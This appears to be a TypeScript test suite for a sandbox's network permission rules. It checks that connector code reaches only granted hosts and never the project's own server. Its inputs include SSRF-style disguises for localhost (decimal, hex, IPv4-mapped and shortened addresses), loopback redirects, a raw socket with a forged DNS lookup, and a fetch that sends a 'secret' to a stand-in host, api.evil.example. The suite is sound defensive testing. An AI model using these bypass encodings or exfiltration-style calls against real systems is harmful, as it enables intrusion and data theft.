import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { createServer, type RequestListener } from "node:http"
import type { AddressInfo } from "node:net"
import { networkInterfaces } from "node:os"
import { guestEnvironment } from "../../../src/layers/host/flags.ts"
import { placeOf } from "../../fixtures/journey.ts"
import { failing, succeeding, syncing } from "../../fixtures/guest.ts"

/** A server of this machine, on all its addresses; answers its port. */
const serving = (listener: RequestListener) =>
  Effect.acquireRelease(
    Effect.callback<{ readonly server: ReturnType<typeof createServer>; readonly port: number }>((resume) => {
      const server = createServer(listener).listen(0, "::", () =>
        resume(Effect.succeed({ server, port: (server.address() as AddressInfo).port })),
      )
    }),
    ({ server }) =>
      Effect.sync(() => {
        server.closeAllConnections()
        server.close()
      }),
  ).pipe(Effect.map(({ port }) => port))

/** Answers "loot", and knows how often it was asked. */
const treasury = Effect.gen(function* () {
  const asked: Array<string> = []
  const port = yield* serving((request, response) => {
    asked.push(`${request.method} ${request.url}`)
    response.end("loot")
  })
  return { port, asked }
})

/** What the connector makes of it: the text of an answer, or of a failure. */
const telling = (body: string): string =>
  syncing(`    try {\n${body}\n    } catch (error) {\n      ctx.log(String(error.message ?? error))\n    }`)

const told = Effect.fnUntraced(function* (
  net: ReadonlyArray<string> | null,
  body: string,
  files: Readonly<Record<string, string>> = {},
) {
  const { lines } = yield* succeeding(telling(body), { files, job: { permissions: { read: [], net } } })
  return lines.map(({ text }) => text).join("\n")
})

const get = (url: string): string => `      ctx.log(await (await fetch(${JSON.stringify(url)})).text())`

describe.concurrent("permissions.net", () => {
  /** What reaches it, by which grant; `port` and `other` stand for a port. */
  const granted: ReadonlyArray<readonly [grant: string, host: string]> = [
    ["localhost", "localhost"],
    ["localhost:port", "localhost"],
    ["localhost", "LOCALHOST"],
    ["localhost", "localhost."],
    ["127.0.0.1", "127.0.0.1"],
    ["127.0.0.1", "2130706433"],
    ["127.0.0.1", "0x7f.1"],
    ["127.0.0.1", "[::ffff:127.0.0.1]"],
    ["[::1]:port", "[::1]"],
  ]
  for (const [grant, host] of granted) {
    it.live(`${grant} lets ${host} be reached`, () =>
      Effect.gen(function* () {
        const { port } = yield* treasury
        assert.strictEqual(yield* told([grant.replace("port", String(port))], get(`http://${host}:${port}/`)), "loot")
      }),
    )
  }

  const refused: ReadonlyArray<readonly [grants: ReadonlyArray<string>, host: string]> = [
    [[], "localhost"],
    [["example.com"], "localhost"],
    [["localhost:1"], "localhost"],
    [["localhost"], "127.0.0.1"],
    [["localhost"], "[::1]"],
    [["localhost"], "2130706433"],
    [["localhost"], "[::ffff:7f00:1]"],
    [["localhost"], "0"],
    [["127.0.0.1"], "localhost"],
    [["127.0.0.1"], "127.0.0.2"],
    [["*.localhost"], "localhost"],
    [["*.localhost"], "notlocalhost"],
    [["xn--bcher-kva.example"], "xn--bcher-kva.example.evil.example"],
  ]
  for (const [grants, host] of refused) {
    it.live(`${grants.join() || "nothing"} doesn't let ${host} be reached, and the refusal says what would`, () =>
      Effect.gen(function* () {
        const { port, asked } = yield* treasury
        const text = yield* told(grants, get(`http://${host}:${port}/`))
        assert.match(
          text,
          new RegExp(
            `^"[^"]+" is out of the connector's reach \\(port ${port}\\): add "[^"]+:${port}" to permissions\\.net of connector "one" in manifest\\.json$`,
          ),
        )
        assert.deepEqual(asked, [])
      }),
    )
  }

  it.live("a refusal that nobody catches is the run's failure, at its place", () =>
    Effect.gen(function* () {
      const source = syncing(`    await fetch("https://api.evil.example/?secret")`)
      const { error } = yield* failing(source, {
        job: { permissions: { read: [], net: ["api.example.com"] } },
      })
      assert.deepInclude(error, {
        _tag: "ConnectorFailed",
        file: "connectors/one/index.ts",
        line: placeOf(source, "await fetch").line,
      })
      assert.match(error.message, /"api\.evil\.example" is out of .* add "api\.evil\.example" to permissions\.net/)
      assert.deepInclude(error, { refused: { permission: "net", value: "api.evil.example" } })
      assert.strictEqual(
        error.suggestion,
        'Nothing was written. The user decides what it may reach: if that is to be, add "api.evil.example" to "net" under "permissions" of connector "one" in manifest.json.',
      )
      assert.notInclude(error.message, "secret")
    }),
  )

  it.live("is asked at each redirect", () =>
    Effect.gen(function* () {
      const { port, asked } = yield* treasury
      const entry = yield* serving((_, response) =>
        response.writeHead(302, { location: `http://127.0.0.1:${port}/` }).end(),
      )
      const text = yield* told([`localhost:${entry}`], get(`http://localhost:${entry}/`))
      assert.match(text, /^"127\.0\.0\.1" is out of/)
      assert.deepEqual(asked, [])
      assert.strictEqual(yield* told(null, get(`http://localhost:${entry}/`)), "loot")
    }),
  )

  // What a resolver answers is no name's to choose: a number in parts is the one name here that leads inside without saying so.
  it.live("a name that leads to this machine without saying so is refused, unless the address is granted as well", () =>
    Effect.gen(function* () {
      const { port, asked } = yield* treasury
      const reach = `
      const { constructor: Socket } = process.stdout
      const socket = new Socket()
      ctx.log(await new Promise((done, fail) => {
        socket.once("error", fail).once("data", (data) => done(String(data).split("\\n").at(-1)))
        socket.connect({ host: "127.1", port: ${port} }, () => socket.write("GET / HTTP/1.0\\r\\n\\r\\n"))
      }))`
      assert.match(
        yield* told(["127.1"], reach),
        new RegExp(`^"127\\.1" leads to 127\\.0\\.0\\.1, .* add "127\\.0\\.0\\.1:${port}" to permissions\\.net`),
      )
      assert.deepEqual(asked, [])
      assert.strictEqual(yield* told(["127.1", `127.0.0.1:${port}`], reach), "loot")
    }),
  )

  it("goes without the proxy of the environment, which alone would know where requests lead", () => {
    const environment = {
      HTTPS_PROXY: "http://proxy:1",
      http_proxy: "http://proxy:1",
      NODE_USE_ENV_PROXY: "1",
      TZ: "UTC",
      PATH: "/",
    }
    const { PATH: _, ...rest } = environment
    assert.deepEqual(guestEnvironment(environment, { read: [], net: null }), rest)
    assert.deepEqual(guestEnvironment(environment, { read: [], net: [] }), { TZ: "UTC" })
  })
})

const served = (origin: string, pid = process.pid) => ({ ".openislands/serve.json": JSON.stringify({ origin, pid }) })

describe.concurrent("this project's own server", () => {
  const own = Object.values(networkInterfaces())
    .flatMap((all) => all ?? [])
    .filter(({ address }) => !address.startsWith("fe80"))
    .map(({ address, family }) => (family === "IPv6" ? `[${address}]` : address))

  it.live("is out of reach by every address and name of this machine, whatever is granted", () =>
    Effect.gen(function* () {
      const { port, asked } = yield* treasury
      const hosts = [
        ...new Set([...own, "localhost", "127.0.0.1", "127.0.0.9", "[::1]", "0", "[::]", "[::ffff:127.0.0.1]"]),
      ]
      const body = `
      for (const host of ${JSON.stringify(hosts)})
        ctx.log(host + " " + await fetch("http://" + host + ":${port}/").then((answer) => answer.text(), (error) => error.message))`
      // As a control, under an origin that nobody serves.
      const open = yield* told(null, body, served("http://127.0.0.1:1"))
      assert.deepEqual(
        open.split("\n"),
        hosts.map((host) => `${host} loot`),
      )
      asked.length = 0
      const grants = hosts.map((host) => new URL(`http://${host}`).hostname)
      for (const net of [null, grants]) {
        const lines = (yield* told(net, body, served(`http://127.0.0.1:${port}`))).split("\n")
        for (const line of lines) assert.match(line, /is this project's own server, which no connector may reach$/)
        assert.lengthOf(lines, hosts.length)
      }
      assert.deepEqual(asked, [])
    }),
  )

  it.live("is out of reach by a redirect, and for raw connections", () =>
    Effect.gen(function* () {
      const { port, asked } = yield* treasury
      const entry = yield* serving((_, response) =>
        response.writeHead(307, { location: `http://[::1]:${port}/` }).end(),
      )
      const files = served(`http://localhost:${port}`)
      assert.match(yield* told(null, get(`http://127.0.0.1:${entry}/`), files), /own server/)
      const raw = `
      const { connect } = await import("node:net")
      await new Promise((done, fail) => connect({ host: "whatever", port: ${port}, lookup: (_, __, answer) => answer(null, [{ address: "127.0.0.1", family: 4 }]) }, done).once("error", fail))
      ctx.log("connected")`
      assert.match(yield* told(null, raw, files), /EPERM/)
      assert.strictEqual(yield* told(null, raw), "connected")
      assert.deepEqual(asked, [])
    }),
  )

  it.live("is nobody's once its process is gone", () =>
    Effect.gen(function* () {
      const { port } = yield* treasury
      const url = `http://127.0.0.1:${port}`
      assert.strictEqual(yield* told(null, get(url), served(url, 2 ** 22 + 1)), "loot")
      assert.strictEqual(yield* told(null, get(url), { ".openislands/serve.json": "{" }), "loot")
    }),
  )
})
